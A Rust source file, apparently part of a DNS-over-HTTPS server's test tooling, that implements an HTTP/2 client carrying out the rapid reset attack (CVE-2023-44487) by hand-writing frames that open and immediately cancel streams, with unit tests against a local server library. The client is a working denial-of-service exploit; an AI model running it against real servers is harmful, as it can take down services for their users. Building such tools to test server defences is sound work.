//! A client that resets each of its streams as soon as it has opened it: the rapid reset (CVE-2023-44487). It writes the
//! few frames that this takes itself (RFC 9113), since no client's library lets a stream be used so.

use std::fmt;

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use h2::Reason;

/// The bytes with which a client begins (RFC 9113, section 3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Bytes of a frame before its payload: length, type, flags and stream.
const HEAD_BYTES: usize = 9;

/// The longest payload that a server may send, unless the client allows more (RFC 9113, section 4.2).
const PAYLOAD_MOST: usize = 1 << 14;

/// The last stream that a client may open (RFC 9113, section 5.1.1).
const LAST_STREAM: u32 = (1 << 31) - 1;

/// Bytes by which a connection's window may grow at most, from 65,535 bytes (RFC 9113, section 6.9.1).
const WINDOW_GROWTH: u32 = (1 << 31) - 1 - 65_535;

/// The message of a query for the name servers of the root, with ID 0.
const QUERY: [u8; 17] = [0, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 1];

/// The names of frames by their type (RFC 9113, section 6).
const NAMES: [&str; 10] = [
    "data",
    "headers",
    "priority",
    "rst_stream",
    "settings",
    "push_promise",
    "ping",
    "goaway",
    "window_update",
    "continuation",
];

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const ACK: u8 = 1;

/// The streams of one connection.
pub struct ResetSession {
    /// The headers of each request, as HPACK has them.
    headers: Box<[u8]>,
    /// The next stream to open.
    next: u32,
    /// The beginning of a frame.
    partial: Vec<u8>,
}

/// A frame of the server.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ServerFrame {
    /// The name of its type in small letters, such as `rst_stream`.
    pub name: &'static str,
    /// The reason of a GOAWAY, such as `ENHANCE_YOUR_CALM`.
    pub away: Option<String>,
}

/// The server sent a frame that is longer than it may be.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct TooLong;

impl fmt::Display for TooLong {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        formatter.write_str("HTTP/2: a frame is longer than it may be")
    }
}

impl ResetSession {
    /// A connection whose requests go to this authority and path, each a GET for the name servers of the root.
    pub fn new(authority: &str, path: &str) -> Self {
        let joint = if path.contains('?') { '&' } else { '?' };
        let path = format!("{path}{joint}dns={}", URL_SAFE_NO_PAD.encode(QUERY));
        // `:method GET` and `:scheme https` of the static table (RFC 7541, appendix A).
        let mut headers = vec![0x82, 0x87];
        literal(&mut headers, 4, &path);
        literal(&mut headers, 1, authority);
        literal(&mut headers, 19, "application/dns-message");
        Self { headers: headers.into(), next: 1, partial: Vec::new() }
    }

    /// Appends the first bytes of the connection: the preface, settings, and a window that never fills.
    pub fn begin(&self, out: &mut Vec<u8>) {
        out.extend_from_slice(PREFACE);
        frame(out, SETTINGS, 0, 0, &[]);
        frame(out, WINDOW_UPDATE, 0, 0, &WINDOW_GROWTH.to_be_bytes());
    }

    /// Appends a request and the reset of its stream. Returns whether there was a stream left.
    pub fn open_and_reset(&mut self, out: &mut Vec<u8>) -> bool {
        if self.next > LAST_STREAM {
            return false;
        }
        frame(out, HEADERS, END_HEADERS | END_STREAM, self.next, &self.headers);
        frame(out, RST_STREAM, 0, self.next, &u32::from(Reason::CANCEL).to_be_bytes());
        self.next += 2;
        true
    }

    /// Takes bytes that arrived, calls `each` for every frame in them, and appends the answers that HTTP/2 asks for.
    ///
    /// # Errors
    ///
    /// If a frame is longer than it may be. What follows cannot be read.
    pub fn receive(
        &mut self,
        bytes: &[u8],
        out: &mut Vec<u8>,
        mut each: impl FnMut(ServerFrame),
    ) -> Result<(), TooLong> {
        self.partial.extend_from_slice(bytes);
        let mut used = 0;
        while let Some((head, rest)) = self.partial[used..].split_first_chunk::<HEAD_BYTES>() {
            let [a, b, c, kind, flags, ..] = *head;
            let length = u32::from_be_bytes([0, a, b, c]) as usize;
            if length > PAYLOAD_MOST {
                return Err(TooLong);
            }
            let Some(payload) = rest.get(..length) else { break };
            match kind {
                SETTINGS if flags & ACK == 0 => frame(out, SETTINGS, ACK, 0, &[]),
                PING if flags & ACK == 0 => frame(out, PING, ACK, 0, payload),
                _ => {}
            }
            let code = payload.get(4..8).filter(|_| kind == GOAWAY).and_then(|code| code.first_chunk::<4>());
            let away = code.map(|code| format!("{:?}", Reason::from(u32::from_be_bytes(*code))));
            each(ServerFrame { name: NAMES.get(usize::from(kind)).copied().unwrap_or("other"), away });
            used += HEAD_BYTES + length;
        }
        self.partial.drain(..used);
        Ok(())
    }
}

/// Appends a frame (RFC 9113, section 4.1). Its payload is short.
fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let [_, length @ ..] = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    out.extend_from_slice(&length);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// Appends a header that is not indexed, whose name has this number in the static table (RFC 7541, section 6.2.2).
fn literal(out: &mut Vec<u8>, name: usize, value: &str) {
    integer(out, 0, 4, name);
    integer(out, 0, 7, value.len());
    out.extend_from_slice(value.as_bytes());
}

/// Appends an integer that begins in the last `bits` bits of a byte (RFC 7541, section 5.1).
fn integer(out: &mut Vec<u8>, first: u8, bits: u32, number: usize) {
    let most = (1_usize << bits) - 1;
    let byte = |part: usize| u8::try_from(part).unwrap_or(u8::MAX);
    if number < most {
        out.push(first | byte(number));
        return;
    }
    out.push(first | byte(most));
    let mut rest = number - most;
    while rest >= 128 {
        out.push(byte(rest % 128) | 0x80);
        rest /= 128;
    }
    out.push(byte(rest));
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{PATH, Peer, ServerEvent, ServerSession};

    #[test]
    fn numbers_are_those_of_the_specification() {
        let bytes = |bits, number| {
            let mut out = Vec::new();
            integer(&mut out, 0, bits, number);
            out
        };
        // RFC 7541, appendix C.1.
        assert_eq!(bytes(5, 10), [10]);
        assert_eq!(bytes(5, 1337), [31, 154, 10]);
        assert_eq!(bytes(4, 19), [15, 4]);
    }

    #[test]
    fn frames_are_answered_and_named_wherever_they_are_cut() {
        let mut sent = Vec::new();
        frame(&mut sent, SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]);
        frame(&mut sent, PING, 0, 0, &[7; 8]);
        frame(&mut sent, SETTINGS, ACK, 0, &[]);
        frame(&mut sent, GOAWAY, 0, 0, &[0, 0, 0, 1, 0, 0, 0, 11]);
        frame(&mut sent, 99, 0, 0, &[1]);
        let mut wanted = Vec::new();
        frame(&mut wanted, SETTINGS, ACK, 0, &[]);
        frame(&mut wanted, PING, ACK, 0, &[7; 8]);
        for part in [1, 10, 1000] {
            let mut session = ResetSession::new("dns.test", "/dns-query");
            let (mut out, mut seen) = (Vec::new(), Vec::new());
            for bytes in sent.chunks(part) {
                session.receive(bytes, &mut out, |frame| seen.push(frame)).unwrap();
            }
            let names: Vec<&str> = seen.iter().map(|frame| frame.name).collect();
            assert_eq!(names, ["settings", "ping", "settings", "goaway", "other"]);
            assert_eq!(seen[3].away.as_deref(), Some("ENHANCE_YOUR_CALM"));
            assert_eq!(out, wanted);
        }
        let mut session = ResetSession::new("dns.test", "/");
        assert_eq!(session.receive(&[0xff; 9], &mut Vec::new(), |_| ()), Err(TooLong));
    }

    /// A server's library reads a request that is not reset yet, and takes the resets of others.
    #[test]
    fn a_server_reads_the_requests() {
        let mut client = ResetSession::new("dns.test:8443", PATH);
        let mut server = ServerSession::default();
        let mut bytes = Vec::new();
        client.begin(&mut bytes);
        frame(&mut bytes, HEADERS, END_HEADERS | END_STREAM, client.next, &client.headers);
        client.next += 2;
        let mut queries = Vec::new();
        let mut take = |bytes: &[u8]| {
            server.receive(bytes, |event| match event {
                ServerEvent::Query(query) => queries.push(query.to_vec()),
                ServerEvent::Refused(status) => panic!("refused with {status}"),
            })
        };
        assert_eq!(take(&bytes), Ok(Peer::Open));
        bytes.clear();
        assert!(client.open_and_reset(&mut bytes) && client.open_and_reset(&mut bytes));
        assert_eq!(take(&bytes), Ok(Peer::Open));
        assert_eq!(queries.first().map(Vec::as_slice), Some(&QUERY[..]));
    }

    #[test]
    fn streams_have_odd_numbers_and_an_end() {
        let mut client = ResetSession::new("dns.test", "/?a=b");
        let mut bytes = Vec::new();
        assert!(client.open_and_reset(&mut bytes) && client.open_and_reset(&mut bytes));
        let reset = |stream: u8| [0, 0, 4, RST_STREAM, 0, 0, 0, 0, stream, 0, 0, 0, 8];
        for stream in [1, 3] {
            assert_eq!(bytes.windows(13).filter(|part| *part == reset(stream)).count(), 1, "{stream}");
        }
        assert!(bytes.windows(9).any(|part| part == b"/?a=b&dns"));
        client.next = LAST_STREAM;
        assert!(client.open_and_reset(&mut bytes) && !client.open_and_reset(&mut bytes));
    }
}
